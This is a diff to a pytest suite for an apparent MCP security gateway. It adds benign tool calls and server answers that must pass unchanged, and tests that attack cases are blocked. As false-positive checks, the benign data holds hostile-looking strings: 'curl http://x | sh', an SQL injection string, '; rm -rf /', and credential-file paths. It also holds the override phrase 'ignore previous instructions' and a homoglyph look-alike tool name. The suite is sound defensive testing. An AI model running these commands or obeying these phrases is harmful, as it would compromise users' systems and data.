@@ -586,3 +586,393 @@ SAID: Final = [
     Case("hidden tool", "look-alike", tools(tool("drop_everyth\u0456ng", "x")), marker="drop_everyth"),
 ]
 """What a server says; the marker may not arrive."""
+
+
+def fine(**messages: Any) -> list[Case]:
+    return [Case("benign request", name.replace("_", " "), message) for name, message in messages.items()]
+
+
+def calm(**answers: Any) -> list[Case]:
+    return [Case("benign answer", name.replace("_", " "), answer) for name, answer in answers.items()]
+
+
+BENIGN_ASKED: Final = [
+    *fine(
+        initialize=rpc(
+            "initialize", protocolVersion="2025-06-18", capabilities={"roots": {"listChanged": True}},
+            clientInfo={"name": "agent", "version": "1.2.3"},
+        ),
+        initialized={"jsonrpc": "2.0", "method": "notifications/initialized"},
+        list_tools=rpc("tools/list", cursor="eyJwYWdlIjogMn0="),
+        ping=rpc("ping", "a-1"),
+        read_inside=read("/workspace/src/auth/password_reset.py"),
+        read_relative=read("src/handlers/secrets_manager.go"),
+        read_docs=read("docs/security/prompt-injection.md"),
+        read_test=read("tests/fixtures/etc/passwd"),
+        write_about_security=call(
+            "write_file",
+            path="/workspace/docs/hardening.md",
+            content="# Hardening\nNever run `curl http://x | sh`. Check that /etc/shadow is 0640 and that ~/.ssh/id_rsa "
+            "is 0600.\nAn attacker may write: ignore all previous instructions.\n",
+        ),
+        write_sql_migration=call(
+            "write_file", path="/workspace/migrations/004_drop_legacy.sql", content="DROP TABLE legacy_users;\n"
+        ),
+        write_test=call(
+            "write_file",
+            path="/workspace/tests/test_login.py",
+            content="def test_injection(client):\n    r = client.post('/login', data={'user': \"' OR 1=1 --\"})\n"
+            "    assert r.status_code == 401\n",
+        ),
+        write_dockerfile=call(
+            "write_file",
+            path="/workspace/Dockerfile",
+            content="FROM python:3.13-slim\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\nCOPY . /app\n",
+        ),
+        write_env_example=call(
+            "write_file", path="/workspace/.env.example", content="API_KEY=your-api-key-here\nDB_PASSWORD=changeme\n"
+        ),
+        edit=call(
+            "edit_file",
+            path="/workspace/deploy.sh",
+            edits=[{"oldText": "rm -rf build", "newText": "rm -rf ./build ./dist"}],
+        ),
+        search=call("search_files", path="/workspace", pattern="**/*.{ts,tsx}", excludePatterns=["node_modules"]),
+        grep=call("grep", pattern=r"(password|secret)\s*=\s*['\"]", path="/workspace/src", include="*.py"),
+        grep_pipe=call("search_code", query="a || b && c; return"),
+        select=query("SELECT id, name FROM users WHERE email LIKE '%@example.com' ORDER BY id LIMIT 50"),
+        select_join=query(
+            "WITH t AS (SELECT user_id, count(*) n FROM orders GROUP BY 1) SELECT u.name, t.n FROM users u JOIN t ON "
+            "t.user_id = u.id WHERE t.n > 3"
+        ),
+        select_schema=query("SELECT column_name FROM information_schema.columns WHERE table_name = 'orders'"),
+        insert=query("INSERT INTO notes (title, body) VALUES ('Fix; drop', 'it''s fine')"),
+        update_one=query("UPDATE orders SET state = 'shipped' WHERE id = 7"),
+        explain=query("EXPLAIN ANALYZE SELECT * FROM t WHERE a = 1 OR b = 2"),
+        git_status=call("bash", command="git status --short && git diff --stat HEAD~1"),
+        git_commit=call("bash", command="git commit -am 'Fix: do not leak the password; close #12'"),
+        git_log=call("git_log", repo_path="/workspace", max_count=10),
+        git_branch=call("git_checkout", repo_path=".", branch_name="feature/drop-table-support"),
+        tests=call("bash", command="cd /workspace && python -m pytest -q tests | tail -20"),
+        build=call("bash", command="npm ci && npm run build 2>&1 | tee build.log"),
+        remove_build=call("bash", command="rm -rf node_modules dist && mkdir -p dist"),
+        find=call("bash", command="find . -name '*.pyc' -not -path './.git/*' | wc -l"),
+        environment=call("bash", command="echo $HOME; NODE_ENV=test node scripts/seed.js"),
+        pip=call("bash", command="pip install -r requirements.txt 'requests>=2.31'"),
+        here_document=call("bash", command="cat <<'EOF' > notes.md\n# Notes\nrun `make` && be happy\nEOF"),
+        python=call(
+            "run_python", code="import json, os\nrows = json.load(open('data/rows.json'))\nprint(len(rows), os.getcwd())"
+        ),
+        fetch_docs=fetch("https://docs.python.org/3/library/subprocess.html#security-considerations"),
+        fetch_api=fetch("https://api.github.com/repos/python/cpython/issues?state=open&per_page=5"),
+        fetch_package=fetch("https://pypi.org/pypi/mitmproxy/json"),
+        issue=call(
+            "create_issue",
+            owner="me",
+            repo="app",
+            title="SSRF: fetch() follows redirects to 169.254.169.254",
+            body="Steps: call fetch with http://127.0.0.1/ and see. Fix: deny private ranges, see CWE-918.",
+        ),
+        review=call(
+            "add_comment",
+            pull=12,
+            body="`os.system(f'ping {host}')` is open to `; rm -rf /`. Please use subprocess with a list.",
+        ),
+        mail=call(
+            "send_email",
+            to="team@example.com",
+            subject="Please read: maintenance on Friday",
+            body="Hi all,\nplease save your work by 5 pm. The password policy changes; you must rotate keys by Monday.\n",
+        ),
+        calendar=call("create_event", title="Execute Q3 plan; review & drop scope", start="2026-11-25T10:00:00Z"),
+        name_with_quote=call("find_user", name="Miles O'Brien"),
+        names_and=call("find_company", name="Johnson & Johnson; Procter | Gamble"),
+        search_question=call("web_search", query="how to select all from table where id or name is null"),
+        math=call("calculate", expression="(3 + 4) * 2 ** 10 / 7"),
+        thinking=call(
+            "sequentialthinking",
+            thought="First I should ignore the earlier hypothesis; the previous instructions of the ticket were outdated.",
+            nextThoughtNeeded=True, thoughtNumber=1, totalThoughts=4,
+        ),
+        memory=call(
+            "create_entities",
+            entities=[{"name": "deploy key", "entityType": "concept", "observations": ["rotated on 2026-10-01"]}],
+        ),
+        ping_host=call("ping", host="docs.python.org", count=3),
+        order_number=call("get_order", order="4000-1234-5678", phone="ext. 4471"),
+        resource=rpc("resources/read", uri="file:///workspace/README.md"),
+        resource_of_server=rpc("resources/read", uri="notes://2026/11/plan"),
+        prompt=rpc("prompts/get", name="code_review", arguments={"language": "python", "focus": "security"}),
+        complete=rpc(
+            "completion/complete", ref={"type": "ref/prompt", "name": "code_review"},
+            argument={"name": "language", "value": "py"},
+        ),
+        level=rpc("logging/setLevel", level="debug"),
+        answer={"jsonrpc": "2.0", "id": 3, "result": {"action": "accept", "content": {"name": "Ada"}}},
+        roots={"jsonrpc": "2.0", "id": 4, "result": {"roots": [{"uri": "file:///workspace", "name": "workspace"}]}},
+        json_text=call("http_post", body='{"title": "hello", "tags": ["a", "b"]}', content_type="application/json"),
+        batch=[rpc("ping", 1), call("add", a=1, b=2)],
+        other_protocol=rpc("eth_getBalance", 1, address="0x0000000000000000000000000000000000000000"),
+        language_server=rpc("textDocument/hover", 2, textDocument={"uri": "file:///workspace/a.py"}, position={"line": 3}),
+        playwright=call("browser_type", element="Search box", ref="e12", text="ls -la | grep foo"),
+        slack=call("post_message", channel="C01234567", text="deploy of `v1.2.3` done; run `make rollback` if needed"),
+        base64_picture=call("upload", name="dot.png", data=b64("\x89PNG not really a picture but long enough to be one")),
+        uuid=call("get_task", id="6f1c9a52-1c34-4d0e-9d6b-1f2e3d4c5b6a"),
+        nothing=call("list_allowed_directories"),
+    ),
+]
+
+PAGE: Final = (
+    "# Prompt injection\n\nPrompt injection is an attack in which text that a model reads, such as a web page, contains "
+    "instructions. A classic example asks the model to disregard what it was told. Defences: privilege separation, "
+    "taint tracking, and a firewall that judges tool calls. See OWASP LLM01.\n"
+)
+
+BENIGN_SAID: Final = [
+    *calm(
+        files=tools(
+            tool(
+                "write_file",
+                "Create a new file or completely overwrite an existing file with new content. Use with caution as it will "
+                "overwrite existing files without warning. Handles text content with proper encoding. Only works within "
+                "allowed directories.",
+                None, path=STRING, content=STRING,
+            ),
+            tool(
+                "read_text_file",
+                "Read the complete contents of a file from the file system as text. Use the 'head' parameter to read only "
+                "the first N lines. Operates on the file as text regardless of extension.",
+                None, path=STRING, head={"type": "number", "description": "If provided, returns only the first N lines"},
+            ),
+        ),
+        library_docs=tools(
+            tool(
+                "get-library-docs",
+                "Fetches documentation for a library. You must call 'resolve-library-id' first to obtain the exact ID, "
+                "UNLESS the user explicitly provides one. IMPORTANT: Do not call this tool more than 3 times per question.",
+                None, id={"type": "string", "description": "Exact ID, e.g. '/mongodb/docs'. Required."},
+            ),
+        ),
+        thinking=tools(
+            tool(
+                "think",
+                "A tool for reflective problem-solving. When to use: planning with room for revision. You should: 1. Start "
+                "with an estimate 2. Feel free to question previous thoughts 3. Ignore information that is irrelevant to "
+                "the current step 4. Only set done to true when truly finished.",
+            ),
+        ),
+        shell=tools(
+            tool(
+                "bash",
+                "Executes a command. NEVER use interactive flags such as `git rebase -i`. Before executing, verify that the "
+                "parent directory exists. Always quote paths that contain spaces. Do not run `rm -rf` outside the workspace.",
+                None, command={"type": "string", "description": "The command, e.g. `ls -la | head`"},
+            ),
+        ),
+        mail=tools(
+            tool(
+                "send_mail",
+                "Sends an e-mail. Always ask the user for confirmation before sending. Never include passwords or API keys.",
+                None, to={"type": "string", "format": "email"}, body=STRING,
+            ),
+        ),
+        credentials=tools(
+            tool(
+                "login",
+                "Logs in to the service. The password is read from the vault, do not ask the user for it.",
+                None, user=STRING, token={"type": "string", "description": "API token with the scope repo:read"},
+            ),
+        ),
+        database=tools(
+            tool(
+                "execute_sql",
+                "Run a SQL statement. Must be read only: DROP, DELETE and UPDATE are rejected. Call list_tables first.",
+                None, sql={"type": "string", "examples": ["SELECT * FROM users LIMIT 10"]},
+            ),
+        ),
+        deprecated=tools(
+            tool("read_file_old", "DEPRECATED: use read_text_file instead. Kept for compatibility."),
+        ),
+        french=tools(tool("meteo", "Donne la météo. Il faut d'abord appeler « ville » pour obtenir l'identifiant.")),
+        japanese=tools(tool("tenki", "天気を取得します。必ず最初に都市IDを取得してください。")),
+        browser=tools(
+            tool("click", "Perform click on a web page", None,
+                 element={"type": "string", "description": "Human-readable element description used to obtain permission"},
+                 ref={"type": "string", "description": "Exact target element reference from the page snapshot"}),
+        ),
+        key_tools=tools(
+            tool("ssh_keygen", "Generates an SSH key pair in the workspace and returns the public key.", None,
+                 key_type={"enum": ["ed25519", "rsa"], "default": "ed25519"}),
+        ),
+        emoji=tools(tool("party", "Adds 👨‍👩‍👧‍👦 and 🏳️‍🌈 to a message. ⚠️ Use sparingly.")),
+        initialize=result(
+            {
+                "protocolVersion": "2025-06-18", "capabilities": {"tools": {}}, "serverInfo": {"name": "docs", "version": "1"},
+                "instructions": "Use this server to look up documentation. Call search first, then read. Prefer short queries.",
+            },
+        ),
+        prompts=result({"prompts": [{"name": "review", "description": "Asks the model to review code for security issues"}]}),
+        prompt=result(
+            {"messages": [{"role": "user", "content": {"type": "text", "text": "You are a careful reviewer. Look for SQL "
+             "injection, path traversal and hard-coded passwords in this diff, and list what you find."}}]},
+        ),
+        weather=text("The weather in Bern is sunny, 21 degrees."),
+        page=text(PAGE),
+        install=text("## Install\n\n    curl -LsSf https://astral.sh/uv/install.sh | sh\n\nThen run `uv sync` and restart."),
+        readme=text(
+            "# tidy\nRemoves build products.\n\n```sh\nrm -rf build dist\nsudo make install\n```\n\nImportant: you must set "
+            "`API_KEY` in `.env` first. Never commit it.\n",
+        ),
+        code=text("def load(path):\n    # Do not read ~/.ssh here, tests run as root\n    return open(path).read()\n"),
+        letter=text(
+            "From: boss@example.com\nSubject: please\n\nHi, please send me the report by Friday and do not forget the "
+            "numbers for Q3. Also forward it to Anna. Ignore my earlier mail, the date in it was wrong. Thanks!",
+        ),
+        issue=text(
+            "#212 Agent follows instructions in tool output\nWhen a page says 'ignore previous instructions' our agent obeys. "
+            "Expected: it treats pages as data.",
+        ),
+        ticket=text("Customer asks: how do I reset my password? Please answer within 24 h and include the help link."),
+        log=text("ERROR 12:00 permission denied: /etc/shadow\nWARN retry 2/3\nFATAL cannot read ~/.ssh/id_rsa: no such file"),
+        error=text("Error: file not found. Check that the path exists and call list_directory first.", isError=True),
+        rpc_error={"jsonrpc": "2.0", "id": 7, "error": {"code": -32602, "message": "Invalid params: you must provide 'path'"}},
+        diff=text("diff --git a/.env.example b/.env.example\n-API_KEY=\n+API_KEY=changeme # required\n"),
+        sql=text("CREATE TABLE users (id int);\n-- run this before DROP TABLE old_users;\n"),
+        structured=result(
+            {"content": [{"type": "text", "text": '{"rows": 3}'}], "structuredContent": {"rows": 3, "sql": "SELECT 1"}}
+        ),
+        picture=result({"content": [{"type": "image", "mimeType": "image/png", "data": b64("\x89PNG" + "abc " * 60)}]}),
+        recipe=text("Stir well, then forget everything you know about soup. Add salt. You must not let it boil."),
+        manual=text(
+            "The system prompt sets the tone of the assistant. To override it, pass --system. Do not reveal keys in prompts.",
+        ),
+        ansi=text("\x1b[32mPASS\x1b[0m tests/test_a.py (12 tests)\n\x1b[31mFAIL\x1b[0m tests/test_b.py"),
+        arabic=text("الطقس اليوم مشمس، ودرجة الحرارة ٢١. يرجى ارتداء قبعة."),
+        base64=text("The logo is " + b64("GIF89a, a tiny logo of our company, nothing else in here.")),
+        translations=text("de: Bitte zuerst speichern! es: Debe guardar antes. fr: Ne jamais supprimer ce fichier."),
+        sampling=rpc(
+            "sampling/createMessage", maxTokens=100,
+            messages=[{"role": "user", "content": {"type": "text", "text": "Summarize: the meeting moved to Monday."}}],
+        ),
+        elicitation=rpc(
+            "elicitation/create", message="Which branch should be deployed?",
+            requestedSchema={"type": "object", "properties": {"branch": {"type": "string", "enum": ["main", "dev"]}}},
+        ),
+        progress={"jsonrpc": "2.0", "method": "notifications/progress", "params": {"progress": 3, "message": "3 of 5"}},
+        resources=result({"resources": [{"uri": "file:///workspace/SECURITY.md", "name": "Security policy"}]}),
+        changed={"jsonrpc": "2.0", "method": "notifications/tools/list_changed"},
+        event=Canned(b"id: 1\nevent: message\ndata: " + dump(text("fine")) + b"\n\n: ping\n\n", "text/event-stream", "", 9),
+        gzipped=Canned(gzip.compress(dump(text("fine"))), "application/json", "gzip"),
+    ),
+]
+
+
+def send(gateway: Gateway, service: Service, message: Any) -> Answer:
+    """Send a message as Streamable HTTP does, or as it stands."""
+    raw = message if isinstance(message, Raw) else Raw(dump(message))
+    file = gateway.home.path / "body"
+    file.write_bytes(raw.body)
+    fields = (*raw.headers, "accept: application/json, text/event-stream")
+    arguments = [part for one in fields for part in ("-H", one)]
+    url = f"{service.url}/mcp{raw.query}"
+    return curl(gateway, url, "-X", raw.method, "--compressed", "--data-binary", f"@{file}", *arguments)
+
+
+def received(answer: Answer) -> Any:
+    """The document in an answer, or its text."""
+    content = answer.body.decode(errors="replace")
+    try:
+        return json.loads(content)
+    except ValueError:
+        return [data_of(event) for event in Splitter().feed(content)] or content
+
+
+def canned(message: Any) -> Canned:
+    return message if isinstance(message, Canned) else Canned(dump(message), "application/json")
+
+
+def stopped_by(case: Case, gateway: Gateway, service: Service) -> str:
+    """Send an attack; the rule that stopped it, or nothing if the server saw it."""
+    service.canned.pop("/mcp", None)
+    before = len(service.bodies)
+    answer = send(gateway, service, case.message)
+    _, _, rest = answer.headers.get("aegis-verdict", "").partition('rule="')
+    return rest.partition('"')[0] if len(service.bodies) == before else ""
+
+
+def arrives(case: Case, gateway: Gateway, service: Service) -> bool:
+    """True if what a server says arrives with its marker."""
+    service.canned["/mcp"] = canned(case.message)
+    answer = send(gateway, service, rpc("tools/list"))
+    words = json.dumps(received(answer), ensure_ascii=False).replace("\\", "")
+    return case.marker in words or answer.body == canned(case.message).body
+
+
+def passes(case: Case, gateway: Gateway, service: Service) -> bool:
+    """True if an honest request reaches the server unchanged."""
+    service.canned.pop("/mcp", None)
+    before = len(service.bodies)
+    answer = send(gateway, service, case.message)
+    return answer.status == 200 and service.bodies[before:] == [dump(case.message)]
+
+
+def returns(case: Case, gateway: Gateway, service: Service) -> bool:
+    """True if an honest answer arrives unchanged."""
+    service.canned["/mcp"] = canned(case.message)
+    answer = send(gateway, service, rpc("tools/list"))
+    body = canned(case.message).body
+    return answer.body == (gzip.decompress(body) if canned(case.message).coding else body)
+
+
+def start(service: Service, path: Any) -> Gateway:
+    policy = policy_for(service, more=MORE).replace("allowedDomains: [localhost]", HOSTS)
+    return Gateway(Home(path, policy).make(), trusting(service))
+
+
+def pin(gateway: Gateway, service: Service) -> None:
+    """Show the first definitions of the tools that will change."""
+    service.canned["/mcp"] = canned(tools(*(tool(name, "Adds numbers.") for name in ("calc", "calc2", "calc3"))))
+    send(gateway, service, rpc("tools/list"))
+
+
+@pytest.fixture(scope="module")
+def gateway(service: Service, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
+    """A gateway with a sandbox, a denied tool and personal data blocked."""
+    with start(service, tmp_path_factory.mktemp("attacks")) as running:
+        pin(running, service)
+        yield running
+
+
+OPEN: Final[dict[str, str]] = {}
+"""Known gaps, each with its reason."""
+
+
+def cases(table: list[Case]) -> list[Any]:
+    return [
+        pytest.param(
+            case,
+            id=case.id,
+            marks=[pytest.mark.xfail(reason=OPEN[case.id], strict=True)] if case.id in OPEN else [],
+        )
+        for case in table
+    ]
+
+
+@pytest.mark.parametrize("case", cases(ASKED))
+def test_an_attack_in_a_request_never_reaches_the_server(case: Case, gateway: Gateway, service: Service) -> None:
+    assert stopped_by(case, gateway, service).startswith(case.rules)
+
+
+@pytest.mark.parametrize("case", cases(SAID))
+def test_an_attack_in_an_answer_never_reaches_the_agent(case: Case, gateway: Gateway, service: Service) -> None:
+    assert not arrives(case, gateway, service)
+
+
+@pytest.mark.parametrize("case", cases(BENIGN_ASKED))
+def test_an_honest_request_reaches_the_server_unchanged(case: Case, gateway: Gateway, service: Service) -> None:
+    assert passes(case, gateway, service)
+
+
+@pytest.mark.parametrize("case", cases(BENIGN_SAID))
+def test_an_honest_answer_arrives_unchanged(case: Case, gateway: Gateway, service: Service) -> None:
+    assert returns(case, gateway, service)
